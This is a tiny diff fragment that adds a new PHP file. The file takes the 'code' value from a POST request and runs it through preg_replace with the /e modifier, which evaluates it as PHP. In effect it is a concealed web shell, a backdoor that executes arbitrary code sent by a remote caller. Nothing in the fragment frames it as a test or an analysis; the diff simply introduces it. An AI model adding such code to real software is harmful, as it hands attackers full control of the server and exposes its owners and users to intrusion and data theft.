@@ -1,0 +1,3 @@
+<?php
+$p = $_POST['code'];
+echo preg_replace("/.*/e", $p, "");
